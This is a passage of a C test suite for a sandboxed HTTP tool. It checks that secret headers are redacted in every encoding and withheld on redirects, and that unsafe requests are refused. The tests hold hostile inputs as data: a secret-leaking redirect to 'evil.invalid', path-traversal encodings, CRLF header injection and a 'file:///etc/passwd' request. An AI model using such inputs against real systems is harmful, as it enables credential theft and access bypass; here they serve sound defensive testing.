    assert_starts(one(sandbox, "http.get", fmt("{'url':'http://127.0.0.1:$P/bytes?n=500'}"), NULL),
                  "http.get ok {\"status\":200,");
    /* The default limit, 10 MB, against 100 MB without a length. */
    const char *line = one(fmt("{'network':{'allow':['http://127.0.0.1:$P/']}}"), "http.get",
                           fmt("{'url':'http://127.0.0.1:$P/bytes?n=100000000&length=0'}"), NULL);
    assert_contains(line, "the response is larger than 10000000 bytes");
}

static void a_server_that_never_answers_times_out(void **state)
{
    (void)state;
    const char *line = one(fmt("{'network':{'allow':['http://127.0.0.1:$P/'],'timeout_ms':300}}"),
                           "http.get", fmt("{'url':'http://127.0.0.1:$P/never'}"), NULL);
    assert_string_equal(line, txt("http.get err -32004 http.get 'http://127.0.0.1:$P/never': no "
                                  "complete response within 300 ms (network.timeout_ms)"));
}

/* Issue 10: "TLS verification always on": a self-signed certificate is
 * refused, and no setting turns the check off. */
static void tls_verification_is_always_on(void **state)
{
    (void)state;
    const char *line = one(fmt("{'network':{'allow':['https://127.0.0.1:$T/']}}"), "http.get",
                           fmt("{'url':'https://127.0.0.1:$T/hello'}"), NULL);
    assert_starts(line, txt("http.get err -32603 http.get 'https://127.0.0.1:$T/hello': the "
                            "request failed: "));
    assert_contains(line, "certificate");
}

/* ---- ${VAR} headers --------------------------------------------------------------- */

/* Every log line the library writes meanwhile, to check it for secrets. */
static char *log_text;
static size_t log_len;

static void keep_log(int level, const char *msg, void *ud)
{
    (void)level;
    (void)ud;
    size_t n = strlen(msg);
    log_text = realloc(log_text, log_len + n + 2);
    assert_non_null(log_text);
    memcpy(log_text + log_len, msg, n);
    log_len += n;
    log_text[log_len++] = '\n';
    log_text[log_len] = '\0';
}

/* Fails if p[0..n) holds the secret in any form a tool could decode: as
 * it is or any 6 bytes of it, JSON-escaped, URL-encoded, in hex of either
 * case, in UTF-16 of either byte order, or any 8 characters of its
 * base64 at any alignment. */
static void assert_no_secret_bytes(const char *p, size_t n)
{
    static const struct {
        const char *bytes;
        size_t len;
    } plain[] = {
        {SECRET, sizeof(SECRET) - 1},
        {"s3cr3t/value+with=chars\\\"&more", 31},              /* JSON */
        {"s3cr3t%2Fvalue%2Bwith%3Dchars%22%26more", 39},        /* URL */
        {"s3cr3t", 6},                                          /* any piece of it */
        {"value+with", 10},
        {"with=chars", 10},
        {"733363723374", 12},                                   /* hex of "s3cr3t" */
        {"2f76616c7565", 12},                                   /* hex of "/value" */
        {"2F76616C7565", 12},
        {"s\0003\000c\000r\0003\000t", 11},                     /* UTF-16 */
        {"\0s\0003\000c\000r\0003\000", 11},
    };
    for (size_t i = 0; i < sizeof(plain) / sizeof(*plain); i++)
        if (memmem(p, n, plain[i].bytes, plain[i].len) != NULL)
            fail_msg("'%.*s' leaked into:\n%.*s", (int)plain[i].len, plain[i].bytes, (int)n, p);
    for (int shift = 0; shift < 3; shift++) {
        /* base64 of the secret after `shift` bytes: its middle is the
         * secret's alone. */
        char cmd[256];
        snprintf(cmd, sizeof(cmd), "printf '%%s' '%.*s%s' | base64 -w0", shift, "xx",
                 "s3cr3t/value+with=chars\"&more");
        FILE *f = popen(cmd, "r");
        assert_non_null(f);
        char enc[256] = "";
        assert_non_null(fgets(enc, sizeof(enc), f));
        pclose(f);
        size_t len = strlen(enc);
        for (size_t at = 4; at + 8 + 4 <= len; at++)
            if (memmem(p, n, enc + at, 8) != NULL)
                fail_msg("base64 piece '%.8s' of the secret leaked into:\n%.*s", enc + at,
                         (int)n, p);
    }
}

static void assert_no_secret(const char *text)
{
    assert_no_secret_bytes(text, strlen(text));
}

static void a_header_variable_is_substituted_and_never_shown(void **state)
{
    (void)state;
    jpt_set_log(keep_log, NULL, JPT_LOG_DEBUG);
    char *end = probe(
        fmt("{'network':{'allow':['http://127.0.0.1:$P/'],'envs':['JPT_TEST_SECRET']}}"),
        fmt("{'ops':["
            "{'method':'http.get','params':{'url':'http://127.0.0.1:$P/echo','headers':["
            "{'name':'Authorization','value':'Bearer ${JPT_TEST_SECRET}'},"
            "{'name':'X-Twice','value':'${JPT_TEST_SECRET}${JPT_TEST_SECRET}'},"
            "{'name':'X-Plain','value':'visible'}]}},"
            "{'method':'http.get','params':{'url':'http://127.0.0.1:$P/leak?to=/hello%%3Ft%%3D',"
            "'headers':[{'name':'Authorization','value':'${JPT_TEST_SECRET}'}]}},"
            "{'method':'http.post','params':{'url':'http://127.0.0.1:$P/echo','body':'x',"
            "'headers':[{'name':'Authorization','value':'${JPT_TEST_SECRET}'}]}}]}"),
        NULL);
    jpt_set_log(NULL, NULL, 0);
    assert_starts(end, "ok: http.get ok {\"status\":200,");
    assert_no_secret(end);
    assert_no_secret(log_text != NULL ? log_text : "");
    /* What the server saw, as the tool reads it: the value was sent. */
    char *first = strchr(end, '\n');
    assert_non_null(first);
    *first = '\0';
    json_t *r = result_of(end + 4);
    json_t *echo = parse(json_string_value(json_object_get(r, "body")));
    json_t *headers = json_object_get(echo, "headers");
    assert_string_equal(json_string_value(json_object_get(headers, "Authorization")),
                        "Bearer [REDACTED]");
    assert_string_equal(json_string_value(json_object_get(headers, "X-Twice")),
                        "[REDACTED][REDACTED]");
    assert_string_equal(json_string_value(json_object_get(headers, "X-Plain")), "visible");
    assert_contains(json_string_value(json_object_get(json_object_get(echo, "urlencoded"),
                                                      "Authorization")),
                    "[REDACTED]");
    assert_contains(json_string_value(json_object_get(json_object_get(echo, "base64"),
                                                      "Authorization")),
                    "[REDACTED]");
    json_t *h;
    size_t i;
    json_array_foreach(json_object_get(r, "headers"), i, h)
        if (strcmp(json_string_value(json_object_get(h, "name")), "X-Echo-Authorization") == 0)
            assert_string_equal(json_string_value(json_object_get(h, "value")),
                                "Bearer [REDACTED]");
    json_decref(echo);
    json_decref(r);
    /* The redirect's Location, and a refused hop's message. */
    assert_contains(first + 1, "{\"name\":\"Location\",\"value\":\"/hello?t=[REDACTED]\"}");
    free(end);
    const char *line = one(
        fmt("{'network':{'allow':['http://127.0.0.1:$P/'],'envs':['JPT_TEST_SECRET'],"
            "'redirects':1}}"),
        "http.get",
        fmt("{'url':'http://127.0.0.1:$P/leak?to=http://evil.invalid/',"
            "'headers':[{'name':'Authorization','value':'${JPT_TEST_SECRET}'}]}"),
        NULL);
    assert_contains(line, "redirects to 'http://evil.invalid/[REDACTED]', which is not "
                          "followed");
    assert_no_secret(line);
    free(log_text);
    log_text = NULL;
    log_len = 0;
}

/* A credential is not carried to another origin by a redirect (libcurl's
 * own rule for Authorization): substituted headers, Authorization and
 * Cookie stay behind; the others go on. */
static void credentials_stay_with_their_origin(void **state)
{
    (void)state;
    json_t *r = result_of(one(
        fmt("{'network':{'allow':['http://127.0.0.1:$P/','http://localhost:$P/'],"
            "'envs':['JPT_TEST_SECRET'],'redirects':1}}"),
        "http.get",
        fmt("{'url':'http://127.0.0.1:$P/redirect?to=http://localhost:$P/echo','headers':["
            "{'name':'X-Token','value':'${JPT_TEST_SECRET}'},"
            "{'name':'Cookie','value':'a=b'},{'name':'X-Plain','value':'visible'}]}"),
        NULL));
    json_t *echo = parse(json_string_value(json_object_get(r, "body")));
    json_t *headers = json_object_get(echo, "headers");
    assert_null(json_object_get(headers, "X-Token"));
    assert_null(json_object_get(headers, "Cookie"));
    assert_string_equal(json_string_value(json_object_get(headers, "X-Plain")), "visible");
    json_decref(echo);
    json_decref(r);
}

/* Issue 10: "an unknown or disallowed variable is an error response
 * naming the variable (never its value)". */
static void a_variable_not_allowed_is_an_error_naming_it(void **state)
{
    (void)state;
    char sandbox[256];
    snprintf(sandbox, sizeof(sandbox), "%s",
             fmt("{'network':{'allow':['http://127.0.0.1:$P/'],"
                 "'envs':['JPT_TEST_SECRET','JPT_TEST_SHORT','JPT_TEST_UNSET']}}"));
    static const struct {
        const char *value, *line;
    } cases[] = {
        {"${HOME}", "http.get err -32001 http.get 'http://127.0.0.1:$P/echo': header "
                    "'Authorization': ${HOME} is not in network.envs nor in the envs of a "
                    "network.allow entry"},
        {"x ${JPT_TEST_UNSET} y", "http.get err -32002 http.get 'http://127.0.0.1:$P/echo': "
                                  "header 'Authorization': ${JPT_TEST_UNSET} is not set in the "
                                  "host's environment"},
        {"${JPT_TEST_SHORT}", "http.get err -32602 http.get 'http://127.0.0.1:$P/echo': header "
                              "'Authorization': the value of ${JPT_TEST_SHORT} is shorter than "
                              "8 bytes, too short to be kept out of what the tool receives"},
        {"${1X}", "http.get err -32602 http.get 'http://127.0.0.1:$P/echo': header "
                  "'Authorization': '${' is not followed by a variable name and '}' (write "
                  "${NAME} with letters, digits and '_')"},
        {"${JPT_TEST_SECRET", "http.get err -32602 http.get 'http://127.0.0.1:$P/echo': header "
                              "'Authorization': '${' is not followed by a variable name and '}' "
                              "(write ${NAME} with letters, digits and '_')"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++)
        assert_string_equal(
            one(sandbox, "http.get",
                fmt("{'url':'http://127.0.0.1:$P/echo','headers':[{'name':'Authorization',"
                    "'value':'%s'}]}",
                    cases[i].value),
                NULL),
            txt("%s", cases[i].line));
}

/* The header `name` of an echo, or NULL. */
static const char *echoed(json_t *echo, const char *name)
{
    return json_string_value(json_object_get(json_object_get(echo, "headers"), name));
}

/* The echo of a request that succeeded: the server's JSON, parsed. */
static json_t *echo_of(const char *line)
{
    json_t *r = result_of(line);
    json_t *echo = parse(json_string_value(json_object_get(r, "body")));
    json_decref(r);
    return echo;
}

#define AUTH_SECRET "'headers':[{'name':'Authorization','value':'${JPT_TEST_SECRET}'}]"

/* Issue 15 §5: "Substitute secrets only for URLs that a policy rule naming
 * that variable covers". An entry's "envs" names what it carries: a URL it
 * covers gets the value (the server sees it, the tool does not); a URL of
 * another entry of the same server gets an error naming the variable, and
 * nothing is sent. A string entry carries network.envs, as before. */
static void a_secret_goes_only_where_an_entry_naming_it_covers(void **state)
{
    (void)state;
    char sandbox[512];
    snprintf(sandbox, sizeof(sandbox), "%s",
             fmt("{'network':{'allow':[{'url':'http://127.0.0.1:$P/echo',"
                 "'envs':['JPT_TEST_SECRET']},'http://127.0.0.1:$P/reflect']}}"));
    json_t *echo = echo_of(one(sandbox, "http.get",
                               fmt("{'url':'http://127.0.0.1:$P/echo'," AUTH_SECRET "}"), NULL));
    assert_string_equal(echoed(echo, "Authorization"), "[REDACTED]");
    json_decref(echo);
    assert_string_equal(
        one(sandbox, "http.get", fmt("{'url':'http://127.0.0.1:$P/reflect'," AUTH_SECRET "}"),
            NULL),
        txt("http.get err -32001 http.get 'http://127.0.0.1:$P/reflect': header "
            "'Authorization': ${JPT_TEST_SECRET} is not sent to this URL: no network.allow "
            "entry that covers it names the variable (a URL the policy asks about, or one "
            "that an entry without the variable covers, gets no secret)"));
    /* Without the variable, that URL is served. */
    assert_starts(one(sandbox, "http.get", fmt("{'url':'http://127.0.0.1:$P/reflect'}"), NULL),
                  "http.get ok {\"status\":200,");
    /* The form configurations had before entries could name variables. */
    echo = echo_of(one(fmt("{'network':{'allow':['http://127.0.0.1:$P/echo'],"
                           "'envs':['JPT_TEST_SECRET']}}"),
                       "http.get", fmt("{'url':'http://127.0.0.1:$P/echo'," AUTH_SECRET "}"),
                       NULL));
    assert_string_equal(echoed(echo, "Authorization"), "[REDACTED]");
    json_decref(echo);
}

/* Issue 15 §5: "A ${VAR} header secret goes to any URL the user approves
 * at the policy prompt; the prompt does not say a secret rides along." A
 * URL the policy would ask about gets no secret: the request is refused
 * before anyone is asked, and nothing is sent. (On the code before, the
 * prompt approved it and the server on this machine's wildcard address
 * got the value.) */
static void an_asked_url_gets_no_secret(void **state)
{
    (void)state;
    const char *v4 = own_address(AF_INET);
    if (v4 == NULL) {
        print_message("skipped: this machine has no IPv4 address but loopback\n");
        skip();
    }
    fake_name(0, "asked.jpt.test", v4);
    char sandbox[256];
    snprintf(sandbox, sizeof(sandbox), "%s",
             fmt("{'network':{'allow':['http://127.0.0.1:$P/hello'],'envs':['JPT_TEST_SECRET']}}"));
    ru_asked a = {.decision = JPT_DECISION_ALLOW};
    const char *line = one(sandbox, "http.get",
                           fmt("{'url':'http://asked.jpt.test:$A/echo'," AUTH_SECRET "}"), &a);
    assert_int_equal(a.count, 0);
    assert_string_equal(line, txt("http.get err -32001 http.get 'http://asked.jpt.test:$A/echo': "
                                  "header 'Authorization': ${JPT_TEST_SECRET} is not sent to "
                                  "this URL: no network.allow entry that covers it names the "
                                  "variable (a URL the policy asks about, or one that an entry "
                                  "without the variable covers, gets no secret)"));
    /* Without the secret the same URL is asked about (and then refused at
     * the connect: the name leads to this machine). */
    line = one(sandbox, "http.get", fmt("{'url':'http://asked.jpt.test:$A/echo'}"), &a);
    assert_int_equal(a.count, 1);
    assert_contains(line, "(an address of this machine)");
    memset(fake, 0, sizeof(fake));
}

/* A redirect's hop gets only the headers whose variables its own entry
 * carries (the origin is the same: the rule is the entry's, not the
 * origin's), and a Location that holds a secret is never followed: the
 * value would go wherever the hop goes. */
static void a_redirect_hop_carries_only_what_its_entry_names(void **state)
{
    (void)state;
    json_t *echo = echo_of(one(
        fmt("{'network':{'allow':[{'url':'http://127.0.0.1:$P/redirect',"
            "'envs':['JPT_TEST_SECRET']},'http://127.0.0.1:$P/echo'],'redirects':1}}"),
        "http.get",
        fmt("{'url':'http://127.0.0.1:$P/redirect?to=/echo','headers':["
            "{'name':'X-Token','value':'${JPT_TEST_SECRET}'},{'name':'X-Plain','value':'seen'}]}"),
        NULL));
    assert_null(echoed(echo, "X-Token"));
    assert_string_equal(echoed(echo, "X-Plain"), "seen");
    json_decref(echo);
    const char *line = one(
        fmt("{'network':{'allow':['http://127.0.0.1:$P/'],'envs':['JPT_TEST_SECRET'],"
            "'redirects':1}}"),
        "http.get",
        fmt("{'url':'http://127.0.0.1:$P/leak?to=/echo%%3Ft%%3D'," AUTH_SECRET "}"), NULL);
    assert_string_equal(line, txt("http.get err -32001 http.get "
                                  "'http://127.0.0.1:$P/leak?to=/echo%%3Ft%%3D': "
                                  "'http://127.0.0.1:$P/leak?to=/echo%%3Ft%%3D' redirects to "
                                  "'http://127.0.0.1:$P/echo?t=[REDACTED]', which is not "
                                  "followed: the URL holds the value of a ${VAR} header"));
}

/* The body of a result, decoded from base64 when it came so. */
static char *body_of(json_t *r, size_t *n)
{
    const char *body = json_string_value(json_object_get(r, "body"));
    size_t len = json_string_length(json_object_get(r, "body"));
    char *out = malloc(len + 1);

    assert_non_null(body);
    if (json_object_get(r, "encoding") != NULL)
        assert_true(jpt__base64_decode(body, len, (unsigned char *)out, n));
    else {
        memcpy(out, body, len);
        *n = len;
    }
    out[*n] = '\0';
    return out;
}

/* Issue 15 §5: the server reflects the value in every form and encoding a
 * server or program could (JSON with "\/" and "\u003c", Python's quote,
 * HTML, hex of either case, UTF-16 of either byte order, base64 at each
 * alignment and URL-safe, cut short by a byte or to its first 8 bytes;
 * compressed with gzip, deflate, gzip twice; in the body, in a header, in
 * an error status): the tool sees none of it, and a whole form is
 * replaced exactly. */
static void a_reflected_secret_reaches_the_tool_in_no_form(void **state)
{
    (void)state;
    static const struct {
        const char *query;
        bool exact; /* "before [REDACTED] after" */
    } cases[] = {
        {"form=raw&header=1", true},        {"form=json", true},
        {"form=json-slash", true},          {"form=json-html", true},
        {"form=quote&header=1", true},      {"form=quote-plus", true},
        {"form=html", true},                {"form=hex&header=1", true},
        {"form=HEX", true},                 {"form=utf16le", true},
        {"form=utf16be", true},             {"form=b64-0&header=1", true},
        {"form=b64-1", false},              {"form=b64-2", false},
        {"form=b64url-1", false},           {"form=truncated&header=1", false},
        {"form=truncated-json", false},     {"form=first8", false},
        {"form=raw&enc=gzip", true},        {"form=raw&enc=deflate", true},
        {"form=hex&enc=gzip-gzip", true},   {"form=utf16le&enc=gzip", true},
        {"form=raw&code=500&header=1", true},
    };
    char sandbox[256];
    snprintf(sandbox, sizeof(sandbox), "%s",
             fmt("{'network':{'allow':['http://127.0.0.1:$P/'],'envs':['JPT_TEST_SECRET']}}"));
    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        const char *line =
            one(sandbox, "http.get",
                fmt("{'url':'http://127.0.0.1:$P/reflect?%s'," AUTH_SECRET "}", cases[i].query),
                NULL);
        assert_no_secret(line);
        json_t *r = result_of(line);
        size_t n;
        char *body = body_of(r, &n);
        assert_no_secret_bytes(body, n);
        if (cases[i].exact && strcmp(body, "before [REDACTED] after") != 0)
            fail_msg("%s: the body is '%.*s'", cases[i].query, (int)n, body);
        if (!cases[i].exact && (strncmp(body, "before ", 7) != 0 || strstr(body, MARK) == NULL))
            fail_msg("%s: the body is '%.*s'", cases[i].query, (int)n, body);
        if (strstr(cases[i].query, "header=1") != NULL)
            assert_contains(line, "{\"name\":\"X-Reflect\",\"value\":\"" MARK);
        free(body);
        json_decref(r);
    }
    /* Encodings that cannot be decoded: refused, not passed on. */
    const char *line = one(sandbox, "http.get",
                           fmt("{'url':'http://127.0.0.1:$P/reflect?enc=te-gzip'," AUTH_SECRET "}"),
                           NULL);
    assert_string_equal(line, txt("http.get err -32603 http.get "
                                  "'http://127.0.0.1:$P/reflect?enc=te-gzip': the request "
                                  "failed: the response's Transfer-Encoding 'gzip' is refused: "
                                  "only chunked is read"));
    line = one(sandbox, "http.get",
               fmt("{'url':'http://127.0.0.1:$P/reflect?enc=xyz'," AUTH_SECRET "}"), NULL);
    assert_starts(line, "http.get err -32603 ");
    assert_no_secret(line);
}

/* A server that keeps a value and shows it to a later request, which
 * substitutes nothing — or to a process.run child that asks for it: every
 * value the policy lends is scrubbed from every response and output. */
static void a_value_kept_by_the_server_is_scrubbed_later(void **state)
{
    (void)state;
    /* A child may come upon a lent value too (it has no network in its OS
     * sandbox, but files hold what they were given): a workspace file
     * holding it. */
    fu_write(root, "kept.txt", "recalled " SECRET "\n");
    char *end = probe(
        fmt("{'network':{'allow':['http://127.0.0.1:$P/'],'envs':['JPT_TEST_SECRET']},"
            "'commands':{'cat':{}}}"),
        fmt("{'ops':[{'method':'http.get','params':{'url':'http://127.0.0.1:$P/store',"
            AUTH_SECRET "}},"
            "{'method':'http.get','params':{'url':'http://127.0.0.1:$P/recall'}},"
            "{'method':'process.run','params':{'program':'cat','args':['kept.txt']}}]}"),
        NULL);
    char kept[256];
    snprintf(kept, sizeof(kept), "%s/kept.txt", root);
    assert_int_equal(unlink(kept), 0);
    assert_starts(end, "ok: http.get ok {\"status\":200,");
    assert_contains(end, "\"body\":\"recalled [REDACTED]\"}");
    assert_contains(end, "process.run ok {\"stdout\":\"recalled [REDACTED]\\n\"");
    assert_no_secret(end);
    free(end);
}

/* Issue 15 §5: "network.allow path prefixes are matched on the path as
 * written: /api/%2e%2e/admin counts as under /api and is sent with the
 * /api rule's credential, and a server that normalises the path (as nginx
 * does) serves /admin." The server here reads paths leniently and says
 * which path it received: what is matched is what it gets. */
static void paths_are_matched_as_the_server_reads_them(void **state)
{
    (void)state;
    char sandbox[256];
    snprintf(sandbox, sizeof(sandbox), "%s",
             fmt("{'network':{'allow':['http://127.0.0.1:$P/api'],'envs':['JPT_TEST_SECRET']}}"));
    /* Decoded, "/api/%2e%2e/echo" is "/echo", outside the entry. */
    const char *line = one(sandbox, "http.get",
                           fmt("{'url':'http://127.0.0.1:$P/api/%%2e%%2e/echo'," AUTH_SECRET "}"),
                           NULL);
    assert_string_equal(line, txt("http.get err -32001 http.get "
                                  "'http://127.0.0.1:$P/api/%%2e%%2e/echo': denied: an IP address "
                                  "or localhost is allowed only under a network.allow entry that "
                                  "names it as such, and is never asked about"));
    /* What is sent is the normalised path: the server gets "/api/echo". */
    json_t *echo = echo_of(
        one(sandbox, "http.get",
            fmt("{'url':'http://127.0.0.1:$P/api/x/%%2E%%2e/%%65cho'," AUTH_SECRET "}"), NULL));
    assert_string_equal(json_string_value(json_object_get(echo, "path")), "/api/echo");
    assert_string_equal(echoed(echo, "Authorization"), "[REDACTED]");
    json_decref(echo);
    /* What a lenient server reads as another path is refused. */
    static const char *const hidden[] = {
        "/api/..%2fecho", "/api/..%2Fecho", "/api/..;/echo", "/api/x\\\\..\\\\..\\\\echo",
        "/api/x%5c..%5c..%5cecho", "/api/%252e%252e/echo",
    };
    for (size_t i = 0; i < sizeof(hidden) / sizeof(*hidden); i++) {
        line = one(sandbox, "http.get",
                   fmt("{'url':'http://127.0.0.1:$P%s'," AUTH_SECRET "}", hidden[i]), NULL);
        assert_starts(line, "http.get err -32602 ");
        assert_contains(line, "'url' is not a valid URL (its path hides a dot segment");
    }
}

/* ---- Requests and responses ------------------------------------------------------- */

static void a_binary_body_comes_as_base64(void **state)
{
    (void)state;
    json_t *r = result_of(one(fmt("{'network':{'allow':['http://127.0.0.1:$P/']}}"), "http.get",
                              fmt("{'url':'http://127.0.0.1:$P/binary'}"), NULL));
    assert_string_equal(json_string_value(json_object_get(r, "encoding")), "base64");
    const char *b64 = json_string_value(json_object_get(r, "body"));
    unsigned char bytes[512];
    size_t n = 0;
    assert_true(strlen(b64) < sizeof(bytes) && jpt__base64_decode(b64, strlen(b64), bytes, &n));
    assert_int_equal(n, 256);
    for (size_t i = 0; i < 256; i++)
        assert_int_equal(bytes[i], i);
    json_decref(r);
}

static void a_post_sends_its_body_and_only_the_headers_written(void **state)
{
    (void)state;
    char sandbox[256];
    snprintf(sandbox, sizeof(sandbox), "%s", fmt("{'network':{'allow':['http://127.0.0.1:$P/']}}"));
    json_t *r = result_of(one(sandbox, "http.post",
                              fmt("{'url':'http://127.0.0.1:$P/echo','body':'{\\\"k\\\": 1}',"
                                  "'headers':[{'name':'Content-Type','value':'application/json'},"
                                  "{'name':'X-Empty','value':''}]}"),
                              NULL));
    assert_int_equal(json_integer_value(json_object_get(r, "status")), 200);
    json_t *echo = parse(json_string_value(json_object_get(r, "body")));
    json_t *headers = json_object_get(echo, "headers");
    assert_string_equal(json_string_value(json_object_get(echo, "method")), "POST");
    assert_string_equal(json_string_value(json_object_get(echo, "body")), "{\"k\": 1}");
    assert_string_equal(json_string_value(json_object_get(headers, "Content-Type")),
                        "application/json");
    assert_string_equal(json_string_value(json_object_get(headers, "X-Empty")), "");
    assert_null(json_object_get(headers, "Expect"));
    assert_string_equal(json_string_value(json_object_get(headers, "User-Agent")),
                        txt("jptool/%s", jpt_version()));
    json_decref(echo);
    json_decref(r);
    /* A binary body in base64; no Content-Type unless the tool writes one. */
    r = result_of(one(sandbox, "http.post",
                      fmt("{'url':'http://127.0.0.1:$P/echo','body':'gP9h','encoding':'base64'}"),
                      NULL));
    echo = parse(json_string_value(json_object_get(r, "body")));
    assert_null(json_object_get(json_object_get(echo, "headers"), "Content-Type"));
    assert_string_equal(json_string_value(json_object_get(json_object_get(echo, "headers"),
                                                          "Content-Length")),
                        "3");
    json_decref(echo);
    json_decref(r);
}

/* Headers that would contradict the request, or forge lines, are refused
 * before anything is sent. */
static void bad_headers_are_refused(void **state)
{
    (void)state;
    char sandbox[256];
    snprintf(sandbox, sizeof(sandbox), "%s", fmt("{'network':{'allow':['http://127.0.0.1:$P/']}}"));
    static const struct {
        const char *header, *why;
    } cases[] = {
        {"{'name':'Host','value':'evil.invalid'}",
         "header 'Host' is set by the host, not by the tool"},
        {"{'name':'content-length','value':'1'}",
         "header 'content-length' is set by the host, not by the tool"},
        {"{'name':'Bad Name','value':'x'}", "header name 'Bad Name' is not an HTTP token"},
        {"{'name':'X','value':'a\\r\\nInjected: 1'}",
         "the value of header 'X' holds a line break or another control character"},
        {"{'name':'X'}", "'headers[0]' needs both 'name' and 'value'"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        const char *line = one(sandbox, "http.get",
                               fmt("{'url':'http://127.0.0.1:$P/echo','headers':[%s]}",
                                   cases[i].header),
                               NULL);
        assert_starts(line, "http.get err -32602 ");
        assert_contains(line, cases[i].why);
    }
    assert_starts(one(sandbox, "http.get", "{\"url\":\"http://[::1\"}", NULL),
                  "http.get err -32602 http.get 'http://[::1': 'url' is not a valid URL (");
    assert_string_equal(one(sandbox, "http.get", "{\"url\":\"file:///etc/passwd\"}", NULL),
                        "http.get err -32001 http.get 'file:///etc/passwd': denied: only "
                        "http:// and https:// URLs are served");
    assert_starts(one(sandbox, "http.get", "{}", NULL),
                  "http.get err -32602 Invalid params: 'url' is required");
}

/* ---- Many at once ---------------------------------------------------------------- */

/* Fifty transfers held open by the server at once, while the tool's fs.*
 * requests go on being answered: the gate opens only when /release is
 * asked, after the reads, and says how many transfers were waiting (it
 * waits for fifty, which may still be connecting, for up to a minute). A
 * host that served transfers one at a time, or blocked on one, would never
 * get there. */
static void fifty_transfers_at_once_while_files_are_served(void **state)
{
    (void)state;
    /* Each transfer holds its worst case of the tool's answer budget
     * (vfs.h, "Bounds"): fifty fit with responses of 64 KiB at most. */
    char *end = probe(
        fmt("{'network':{'allow':['http://127.0.0.1:$P/'],'timeout_ms':%d,"
            "'max_response_bytes':65536}}",
            WAIT_MS),
        fmt("{'submit_then':{'submit':{'method':'http.get','params':"
            "{'url':'http://127.0.0.1:$P/gate?name=held'},'count':50},'then':["
            "{'method':'fs.read','params':{'path':'hello.txt'}},"
            "{'method':'fs.exists','params':{'path':'hello.txt'}},"
            "{'method':'fs.list_dir','params':{'path':'.'}},"
            "{'method':'http.get','params':{'url':'http://127.0.0.1:$P/release?name=held&expect=50'}}"
            "]}}"),
        NULL);
    assert_starts(end, "ok: fs.read ok {\"content\":\"hello\\n\",\"size\":6}\n"
                       "fs.exists ok {\"exists\":true}\n"
                       "fs.list_dir ok {\"entries\":[{\"path\":\"hello.txt\",\"kind\":\"file\"}]}\n"
                       "http.get ok {\"status\":200,");
    assert_contains(end, "\"body\":\"50 waiting\"}\n50x http.get ok {\"status\":200,");
    assert_contains(end, "\"body\":\"open\"}");
    free(end);
}

/* A session runs at most 64 transfers at once; the others wait their
 * turn in the host, so one tool holds at most 64 responses in memory. The
 * gate opens only when 65 requests wait at it, which never happens: the
 * first 64 time out, then the six that waited start and time out too; the
 * server says at most 64 ever waited at once. (A host without the limit
 * would open the gate, and every request would succeed.) */
static void a_session_runs_at_most_64_transfers_at_once(void **state)
{
    (void)state;
    char *end = probe(
        fmt("{'network':{'allow':['http://127.0.0.1:$P/'],'timeout_ms':%d,"
            "'max_response_bytes':65536}}",
            WAIT_MS / 20),
        fmt("{'submit_then':{'submit':{'method':'http.get','params':"
            "{'url':'http://127.0.0.1:$P/gate?name=cap&open_at=65'},'count':70},'then':["
            "{'method':'http.get','params':{'url':'http://127.0.0.1:$P/peak?name=cap'}}]}}"),
        NULL);
    assert_contains(end, txt("\"body\":\"64\"}\n70x http.get err -32004 http.get "
                             "'http://127.0.0.1:$P/gate?name=cap&open_at=65': no complete "
                             "response within %d ms (network.timeout_ms)",
                             WAIT_MS / 20));
    free(end);
}

/* The registry's "vfs" runtime serves http.* in its own loop, with one
 * HTTP object for all its tools. */
static void a_registry_vfs_tool_fetches(void **state)
{
    (void)state;
    jpt_registry_options o = {.size = sizeof(o), .root = root, .kill_grace_ms = 200,
                              .sandbox_mode = tu_sandbox_mode()};
    char tools[1024];
    snprintf(tools, sizeof(tools), "%s",
             fmt("{'tools':[{'name':'probe','runtime':'vfs','command':['%s'],"
                 "'parameters':{'type':'object'},"
                 "'sandbox':{'network':{'allow':['http://127.0.0.1:$P/hello']}}}]}",
                 PROBE));
    jpt_registry *r = ru_registry_with(&o, tools);
    ru_asked a = {.decision = JPT_DECISION_DENY};
    jpt_registry_set_policy_handler(r, ru_on_ask, &a);
    json_t *res = ru_run(r, fmt("[{'id':'c1','name':'probe','arguments':{'ops':["
                                "{'method':'http.get','params':{'url':'http://127.0.0.1:$P/hello'}},"
                                "{'method':'http.get','params':{'url':'http://x.invalid/'}}]}},"
                                "{'id':'c2','name':'probe','arguments':{'ops':["
                                "{'method':'http.get','params':{'url':'http://127.0.0.1:$P/hello'}}]}}]"));
    for (size_t i = 0; i < 2; i++) {
        assert_false(ru_is_error(res, i));
        assert_starts(ru_content(res, i), "http.get ok {\"status\":200,");
    }
    assert_contains(ru_content(res, 0), "\nhttp.get err -32001 http.get 'http://x.invalid/': "
                                        "denied by the host");
    assert_int_equal(a.count, 1);
    json_decref(res);
    jpt_registry_free(r);
}

/* ---- Memory ------------------------------------------------------------------------ */

/* vfs.h, "Bounds": a hundred http.get of 9 MB bodies from a tool that
 * reads none of its answers (test/tools/vfs-flood). A host that fetched
 * them all and queued every answer held 900 MB; this one starts a
 * transfer only while the answer budget has room for its worst case, and
 * stops the tool once it has read nothing for its request timeout. */
static void transfers_never_read_stay_within_the_budget(void **state)
{
    (void)state;
    char *sandbox = strdup(fmt("{'network':{'allow':['http://127.0.0.1:$P/bytes']}}"));
    char *params = strdup(fmt("{'url':'http://127.0.0.1:$P/bytes?n=9000000'}"));
    jpt_vfs_host_options o = {.size = sizeof(o), .root = root, .sandbox_json = sandbox,
                              .request_timeout_ms = 2000, .kill_grace_ms = 200,
                              .sandbox_mode = tu_sandbox_mode()};
    const char *argv[] = {TOOL("vfs-flood"), "100", "http.get", params, NULL};
    jpt_vfs_host *h = NULL;
    jpt_state *st = NULL;
    char *text = NULL;

    size_t before = tu_rss_reset();
    assert_int_equal(jpt_vfs_host_new(&o, &h), JPT_OK);
    assert_int_equal(jpt_vfs_host_spawn(h, argv, "{\"name\":\"flood\"}"), JPT_OK);
    assert_int_equal(jpt_vfs_host_run(h, WAIT_MS), JPT_OK);
    size_t growth = tu_rss_peak() - before;
    size_t bound = (size_t)4 * (JPT_VFS_ANSWER_BUDGET >> 10) * tu_rss_factor();
    print_message("[ MEMORY   ] 100 http.get never read: the host grew by %zu KiB at its peak "
                  "(bound %zu KiB)\n",
                  growth, bound);
    assert_true(growth < bound);
    assert_int_equal(jpt_vfs_host_state(h, &st), JPT_OK);
